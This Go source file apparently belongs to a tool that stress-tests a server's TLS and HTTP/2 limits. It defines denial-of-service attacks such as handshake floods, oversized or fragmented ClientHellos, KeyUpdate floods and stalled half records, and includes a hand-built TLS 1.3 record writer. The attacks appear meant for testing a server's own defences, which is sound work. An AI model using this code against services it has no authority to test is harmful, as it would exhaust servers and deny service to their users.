package attack

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/hkdf"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/tls"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"hash"
	"io"
	"net"
	"strings"
	"time"
)

// Of records and handshakes (RFC 8446 5.1, 4).
const (
	recordHandshake = 22
	recordData      = 23
	clientHello     = 1
	keyUpdate       = 24
)

// OverTLS returns the attacks that only TLS has; the target must speak it.
func OverTLS() []*Attack {
	hello := helloRecord()
	return []*Attack{
		{Name: "half handshakes", Limits: []string{"handshake_time"}, Conns: 200, Raw: true, Wire: true, Open: func(c *Conn) error {
			_, err := c.W.Write(hello)
			return err
		}},
		{Name: "huge ClientHello", Limits: []string{"tls_errors"}, Conns: 4, Raw: true, Wire: true, Turn: func(c *Conn) error {
			_, err := c.W.Write(record(recordHandshake, append([]byte{clientHello, 0xff, 0xff, 0xff}, make([]byte, 16000)...)))
			return err
		}},
		{Name: "ClientHello in crumbs", Limits: []string{"tls_records"}, Conns: 4, Raw: true, Wire: true, Turn: repeat(func(c *Conn) error {
			crumb := byte(0)
			if c.ID < 4 {
				crumb = []byte{clientHello, 0, 0xff, 0}[c.ID]
			}
			c.ID++
			_, err := c.W.Write(record(recordHandshake, []byte{crumb}))
			return err
		})},
		{Name: "bytes before the handshake", Limits: []string{"handshake_bytes", "tls_errors"}, Conns: 4, Raw: true, Wire: true, Open: func(c *Conn) error {
			_, err := c.W.Write(hello)
			return err
		}, Turn: repeat(func(c *Conn) error {
			_, err := c.W.Write(record(recordData, make([]byte, 16<<10)))
			return err
		})},
		{Name: "plain text", Limits: []string{"tls_errors"}, Conns: 4, Wire: true, Turn: repeat(func(c *Conn) error {
			return c.headers(rangePath, true)
		})},
		{Name: "handshake flood", Conns: 8, Raw: true, Turn: func(c *Conn) error { return errEnough }},
		{Name: "handshake flood, tickets", Conns: 8, Tickets: true, Turn: func(c *Conn) error {
			if c.turns < 2 { // until the ticket is here
				return nil
			}
			return errEnough
		}},
		{Name: "strangers", Limits: []string{"tls_errors"}, Conns: 8, Stranger: true, Turn: repeat(func(c *Conn) error {
			return c.headers(rangePath, true)
		})},
		{Name: "renegotiation", Limits: []string{"tls_errors"}, Conns: 4, Records: 16 << 10, Turn: func(c *Conn) error {
			return c.rec.write(recordHandshake, hello[5:])
		}},
		{Name: "KeyUpdate flood", Limits: []string{"tls_records"}, Conns: 4, Records: 16 << 10, Open: opensUpload, Turn: repeat(func(c *Conn) error {
			if err := c.W.Flush(); err != nil {
				return err
			}
			for range 15 { // one more without data and crypto/tls itself ends the connection
				if err := c.rec.keyUpdate(); err != nil {
					return err
				}
				c.sent.Bytes.Add(27)
			}
			_, err := c.W.Write([]byte{0}) // of the message
			return err
		})},
		{Name: "KeyUpdate flood, deaf", Limits: []string{"tls_records", "blocked_control"}, Conns: 4, Deaf: true, Records: 16 << 10, Open: opensUpload, Turn: repeat(func(c *Conn) error {
			if err := c.rec.keyUpdate(); err != nil {
				return err
			}
			_, err := c.W.Write([]byte{0})
			return errors.Join(err, c.W.Flush())
		})},
		{Name: "records of a byte", Limits: []string{"tls_records"}, Conns: 4, Records: 1, Open: opensUpload, Turn: func(c *Conn) error {
			_, err := c.W.Write(make([]byte, burst))
			return err
		}},
		{Name: "half a record", Limits: []string{"preface_time"}, Conns: 200, Raw: true, Records: 16 << 10, Open: func(c *Conn) error {
			_, err := c.rec.w.Write(append([]byte{recordData, 3, 3, 0x40, 0x10}, make([]byte, 16<<10)...))
			return err
		}},
	}
}

// opensUpload begins a message within one DATA frame of 16 KiB, of which all that follows is a part.
func opensUpload(c *Conn) error {
	if err := c.headers(rangePath, false); err != nil {
		return err
	}
	head := []byte{0, 0x40, 0, 0, 0, 0, 0, 0, 1} // DATA, 16 KiB, stream 1
	_, err := c.W.Write(append(head, 0, 0, 0x10, 0, 0))
	return err
}

// record is one in plain text.
func record(kind byte, p []byte) []byte {
	return append(binary.BigEndian.AppendUint16([]byte{kind, 3, 3}, uint16(len(p))), p...)
}

// helloRecord is what a client says first.
func helloRecord() []byte {
	ours, theirs := net.Pipe()
	defer ours.Close()
	go func() {
		_ = tls.Client(theirs, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}, MinVersion: tls.VersionTLS13}).Handshake()
		theirs.Close()
	}()
	head := make([]byte, 5)
	if _, err := io.ReadFull(ours, head); err != nil {
		panic(err)
	}
	body := make([]byte, binary.BigEndian.Uint16(head[3:]))
	if _, err := io.ReadFull(ours, body); err != nil {
		panic(err)
	}
	return append(head, body...)
}

// shake makes TLS above the socket. records > 0: the records that are sent are made here, of at most so many bytes.
func shake(socket net.Conn, cfg *tls.Config, records int) (net.Conn, *recordWriter, error) {
	var secrets bytes.Buffer
	if records > 0 {
		cfg = cfg.Clone()
		cfg.KeyLogWriter, cfg.MinVersion = &secrets, tls.VersionTLS13
	}
	c := tls.Client(socket, cfg)
	_ = socket.SetDeadline(time.Now().Add(20 * time.Second))
	if err := c.Handshake(); err != nil {
		return nil, nil, err
	}
	_ = socket.SetDeadline(time.Time{})
	if records == 0 {
		return c, nil, nil
	}
	rec, err := newRecordWriter(socket, c.ConnectionState().CipherSuite, secrets.String(), records)
	return c, rec, err
}

// recordWriter is the sending side of TLS 1.3, behind a handshake that crypto/tls has made.
type recordWriter struct {
	w      io.Writer
	most   int // bytes of a record
	hash   func() hash.Hash
	keyLen int
	secret []byte
	aead   cipher.AEAD
	iv     []byte
	seq    uint64
}

func newRecordWriter(w io.Writer, suite uint16, keyLog string, most int) (*recordWriter, error) {
	r := &recordWriter{w: w, most: most}
	switch suite {
	case tls.TLS_AES_128_GCM_SHA256:
		r.hash, r.keyLen = sha256.New, 16
	case tls.TLS_AES_256_GCM_SHA384:
		r.hash, r.keyLen = sha512.New384, 32
	default:
		return nil, fmt.Errorf("no records of suite %x can be made here", suite)
	}
	for line := range strings.Lines(keyLog) {
		if f := strings.Fields(line); len(f) == 3 && f[0] == "CLIENT_TRAFFIC_SECRET_0" {
			r.secret, _ = hex.DecodeString(f[2])
		}
	}
	if r.secret == nil {
		return nil, errors.New("crypto/tls has logged no secret")
	}
	return r, r.rekey()
}

// rekey makes the keys of r.secret (RFC 8446 7.3).
func (r *recordWriter) rekey() error {
	key, err := r.expand("key", r.keyLen)
	if err != nil {
		return err
	}
	if r.iv, err = r.expand("iv", 12); err != nil {
		return err
	}
	block, err := aes.NewCipher(key)
	if err != nil {
		return err
	}
	r.seq = 0
	r.aead, err = cipher.NewGCM(block)
	return err
}

// expand is HKDF-Expand-Label with an empty context (RFC 8446 7.1).
func (r *recordWriter) expand(label string, n int) ([]byte, error) {
	label = "tls13 " + label
	info := binary.BigEndian.AppendUint16(nil, uint16(n))
	info = append(append(info, byte(len(label))), label...)
	return hkdf.Expand(r.hash, r.secret, string(append(info, 0)), n)
}

// write sends one record.
func (r *recordWriter) write(kind byte, p []byte) error {
	nonce := bytes.Clone(r.iv)
	for i := range 8 {
		nonce[4+i] ^= byte(r.seq >> (56 - 8*i))
	}
	r.seq++
	head := binary.BigEndian.AppendUint16([]byte{recordData, 3, 3}, uint16(len(p)+1+r.aead.Overhead()))
	inner := append(bytes.Clone(p), kind)
	_, err := r.w.Write(r.aead.Seal(bytes.Clone(head), nonce, inner, head))
	return err
}

// data sends p in records of r.most bytes.
func (r *recordWriter) data(p []byte) (n int, err error) {
	for len(p) > 0 {
		k := min(len(p), r.most)
		if err := r.write(recordData, p[:k]); err != nil {
			return n, err
		}
		n, p = n+k, p[k:]
	}
	return n, nil
}

// keyUpdate changes the keys, and asks the server to change its own (RFC 8446 4.6.3).
func (r *recordWriter) keyUpdate() error {
	if err := r.write(recordHandshake, []byte{keyUpdate, 0, 0, 1, 1}); err != nil {
		return err
	}
	var err error
	if r.secret, err = r.expand("traffic upd", r.hash().Size()); err != nil {
		return err
	}
	return r.rekey()
}
